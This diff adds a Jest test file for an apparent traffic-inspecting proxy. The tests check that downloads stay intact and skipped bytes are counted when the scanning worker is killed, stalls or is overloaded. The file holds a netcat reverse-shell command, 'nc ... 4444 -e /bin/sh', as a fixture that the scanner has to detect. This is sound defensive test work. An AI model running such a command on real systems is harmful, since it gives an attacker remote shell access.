@@ -1,0 +1,149 @@
+import { afterEach, describe, expect, test } from '@jest/globals';
+import { createHash, randomBytes } from 'node:crypto';
+import { Worker } from 'node:worker_threads';
+import type { FindingDraft } from '../../src/findings/finding.js';
+import type { FlowCoverage } from '../../src/observe/content.js';
+import { Observer, type ObserverEvent, type ObserverOptions } from '../../src/observe/observer.js';
+import { curl } from '../support/curl.js';
+import { until } from '../support/guardian.js';
+import { startHttpOrigin, type Origin } from '../support/origin.js';
+import { startTestProxy, type TestProxy } from '../support/proxy.js';
+
+const PROGRAM = new URL('../../src/sidecar/observer-program.js', import.meta.url);
+const SHELL = 'nc 203.0.113.7 4444 -e /bin/sh';
+const BIG = randomBytes(40 * 1024 * 1024);
+const sha256 = (bytes: Uint8Array): string => createHash('sha256').update(bytes).digest('hex');
+
+/** A proxy whose flows go to a real observer thread. */
+class Bench {
+  readonly drafts: FindingDraft[] = [];
+  readonly closed: FlowCoverage[] = [];
+  readonly events: ObserverEvent[] = [];
+  observer!: Observer;
+  proxy!: TestProxy;
+  origin!: Origin;
+
+  async start(options: Partial<ObserverOptions> = {}): Promise<void> {
+    this.observer = new Observer({
+      program: PROGRAM,
+      programData: { fingerprintKey: randomBytes(32), maxScanBytes: 64 * 1024 * 1024 },
+      ringBytes: 16 * 1024 * 1024,
+      stalledAfterMs: 500,
+      onMessage: (drafts) => void this.drafts.push(...(drafts as FindingDraft[])),
+      onFlowClosed: (_flow, coverage) => void this.closed.push(coverage),
+      onEvent: (event) => void this.events.push(event),
+      ...options,
+    });
+    await this.observer.start();
+    this.origin = await startHttpOrigin((request, response) => {
+      if (request.url === '/big') {
+        // In pieces, so that things can happen in the middle.
+        let sent = 0;
+        const send = (): void => {
+          const piece = BIG.subarray(sent, (sent += 512 * 1024));
+          if (piece.length === 0) response.end();
+          else response.write(piece, () => setImmediate(send));
+        };
+        response.setHeader('content-length', BIG.length);
+        send();
+      } else {
+        response.end(SHELL);
+      }
+    });
+    this.proxy = await startTestProxy({ allow: [`localhost:${this.origin.port}`], tap: this.observer });
+  }
+
+  async stop(): Promise<void> {
+    await this.proxy.close();
+    await this.observer.stop(2_000);
+    await this.origin.close();
+  }
+
+  /** A download during which something is done to the observer; the client must not notice. */
+  async downloadWhile(disturb: () => Promise<void>): Promise<void> {
+    const download = curl(this.proxy.url, ['--limit-rate', '80M', `${this.origin.url}/big`]);
+    await until(
+      async () => this.proxy.door.connections,
+      (count) => count > 0,
+    );
+    await disturb();
+    const { exitCode, body } = await download;
+    expect({ exitCode, hash: sha256(body) }).toEqual({ exitCode: 0, hash: sha256(BIG) });
+  }
+
+  async findsAgain(): Promise<void> {
+    const before = this.drafts.length;
+    await curl(this.proxy.url, [`${this.origin.url}/shell`]);
+    await until(
+      async () => this.drafts.length,
+      (count) => count > before,
+    );
+    expect(this.drafts.at(-1)).toMatchObject({ pattern: 'reverse_shell' });
+  }
+}
+
+let bench: Bench;
+afterEach(() => bench.stop());
+
+describe('nobody waits for the observer', () => {
+  test('killed in the middle of a download: the bytes are whole, the loss is counted, another one goes on', async () => {
+    bench = new Bench();
+    await bench.start();
+    await bench.downloadWhile(async () => {
+      for (let i = 1; i <= 3; i++) {
+        await bench.observer.killForTest();
+        const started = (): number => bench.events.filter(({ kind }) => kind === 'started').length;
+        await until(
+          async () => started(),
+          (count) => count > i,
+        );
+      }
+    });
+    const [coverage] = await until(
+      async () => bench.closed,
+      (closed) => closed.length > 0,
+    );
+    const { seen = 0, truncated = 0, dropped = 0, unparsed = 0 } = coverage ?? {};
+    expect(dropped + truncated + unparsed).toBeGreaterThan(0);
+    expect(seen + truncated + dropped + unparsed).toBeGreaterThan(BIG.length);
+    await bench.findsAgain();
+  });
+
+  test('stalled: it is noticed and replaced, and the download does not wait', async () => {
+    bench = new Bench();
+    // A program that says it is ready and then never looks at its ring again.
+    const source = `import { parentPort } from 'node:worker_threads';
+      parentPort.postMessage({ kind: 'ready' }); for (;;) {}`;
+    await bench.start({ program: new URL(`data:text/javascript,${encodeURIComponent(source)}`) });
+    await bench.downloadWhile(async () => {
+      await until(
+        async () => bench.observer.replaced,
+        (replaced) => replaced > 0,
+      );
+    });
+    expect(bench.events).toContainEqual({ kind: 'replaced', reason: 'stalled' });
+  });
+
+  test('overloaded: what does not fit is dropped and counted to the byte', async () => {
+    bench = new Bench();
+    await bench.start({ ringBytes: 128 * 1024, stalledAfterMs: 60_000 });
+    await bench.downloadWhile(async () => undefined);
+    const [coverage] = await until(
+      async () => bench.closed,
+      (closed) => closed.length > 0,
+    );
+    const { seen = 0, truncated = 0, dropped = 0, unparsed = 0 } = coverage ?? {};
+    const total = seen + truncated + dropped + unparsed;
+    expect(total).toBeGreaterThan(BIG.length);
+    expect(total).toBeLessThan(BIG.length + 2_000);
+    await bench.findsAgain();
+  });
+});
+
+test('a thread that is given nonsense ends, and says so', async () => {
+  bench = new Bench();
+  await bench.start();
+  const worker = new Worker(PROGRAM, { workerData: {} });
+  const error = await new Promise<Error>((resolve) => worker.once('error', resolve));
+  expect(error.message).toContain('thread of Observer');
+});
